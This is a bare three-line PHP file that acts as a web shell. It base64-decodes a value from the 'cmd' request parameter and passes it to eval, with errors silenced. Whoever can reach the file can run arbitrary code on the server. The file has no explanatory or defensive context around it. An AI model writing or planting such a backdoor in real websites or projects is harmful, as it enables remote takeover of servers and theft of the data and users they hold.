<?php
$payload = base64_decode($_REQUEST['cmd']);
@eval($payload);
